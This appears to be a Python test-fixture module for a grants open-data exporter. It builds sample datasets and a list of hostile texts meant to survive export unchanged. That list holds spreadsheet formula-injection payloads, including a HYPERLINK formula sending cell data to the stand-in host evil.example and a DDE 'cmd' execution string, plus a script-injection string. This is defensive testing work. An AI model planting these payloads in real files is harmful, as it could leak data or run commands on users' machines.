"""The open data of the small folder, written once, and records with hostile texts in them."""

import datetime
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import replace
from functools import cache
from pathlib import Path

from builtsite import VALID

from grantpages.checks.audit import audit
from grantpages.checks.finding import Finding
from grantpages.evidence import ledgerfile
from grantpages.evidence.citations import Citation, citations
from grantpages.evidence.ledger import Entry
from grantpages.load import Dataset, load_folder
from grantpages.model import Text
from grantpages.opendata.basis import Basis, Grounds, Key, Subject, subjects_of
from grantpages.opendata.pieces import Gathered, rows_of, sheaf_of
from grantpages.opendata.records import write_record
from grantpages.opendata.table import Row, Table
from grantpages.opendata.write import Written, write_tables

ADDRESS = "https://grants.example.kz/open/"
TODAY = datetime.date(2026, 1, 15)
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1;"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1;1)",
    "'=1+1",
    "''=1",
    "x;=1+1",
    "x;'-1",
    "one\n=1+1\n- two\r\n+3\t=4",
    "＝1+1",
    "\t=1+1",
    'quote " and "" and \' and , and ;',
    "<b>&amp;</b> ]]> </script><script>alert(1)</script>",
    "_x0041_ _x000D_",
    "\u202eright to left\u2028line\u2029paragraph",
    "ұзақ " * 4_000,
    "−5",
)
"""Texts of which none may be computed, cut or changed (after OWASP's and PayloadsAllTheThings' lists)."""


Whole = tuple[Basis, Mapping[Key, Subject]]


@cache
def small() -> Whole:
    """The small folder with its ledger and what the audit finds in it."""
    dataset, problems = load_folder(VALID)
    assert dataset is not None, problems
    ledger, faulty = ledgerfile.read(VALID / "evidence" / "ledger.jsonl", "ledger.jsonl")
    assert not faulty
    cited = tuple(citations(dataset.calls, dataset.projects))
    return whole(dataset, ledger, cited, tuple(audit(dataset, TODAY)))


def whole(
    dataset: Dataset, ledger: Mapping[str, Entry], cited: Iterable[Citation] = (), findings: Iterable[Finding] = ()
) -> Whole:
    """What the tables of a dataset are made from."""
    subjects = subjects_of(dataset, cited, findings)
    grounds = Grounds(dataset, ledger, ADDRESS)
    return Basis(dataset, ledger, ADDRESS, {key: grounds.facts(one) for key, one in subjects.items()}), subjects


def small_basis() -> Basis:
    """The small folder without what belongs to single records."""
    return small()[0]


def hostile(texts: Sequence[str] = HOSTILE) -> Whole:
    """A project for each text, which is its title in both languages and its contract's number."""
    basis = small_basis()
    project = next(one for one in basis.dataset.projects.values() if one.grant.contract)
    projects = {}
    for number, text in enumerate(texts):
        assert project.grant.contract
        contract = project.grant.contract.model_copy(update={"number": text})
        grant = project.grant.model_copy(update={"contract": contract})
        title = Text.model_construct(kk=text, ru=text, translation=None)
        projects[f"p-{number}"] = project.model_copy(update={"title": title, "grant": grant, "tasks": ()})
    files = {**basis.dataset.files, **{("projects", id): f"projects/{id}.yml" for id in projects}}
    dataset: Dataset = replace(basis.dataset, projects=projects, reports={}, files=files)
    return whole(dataset, {})


def write_open_data(folder: Path, made_from: Whole) -> Written:
    """Write the tables and the records' files."""
    basis, subjects = made_from
    gathered = Gathered()
    for key, subject in subjects.items():
        gathered.add(key, sheaf_of(basis, subject))
        write_record(folder, basis, subject)
    return write_tables(folder, basis, gathered)


def rows_in(table: Table, made_from: Whole) -> list[Row]:
    """All rows of a table in order."""
    basis, subjects = made_from
    own = [row for kind in table.kinds for key in subjects if key[0] == kind
           for row in rows_of(table, basis, subjects[key])]  # fmt: skip
    return own + list(table.rows(basis))


def files_of(folder: Path) -> dict[str, bytes]:
    """Every file below a folder by its name there."""
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}
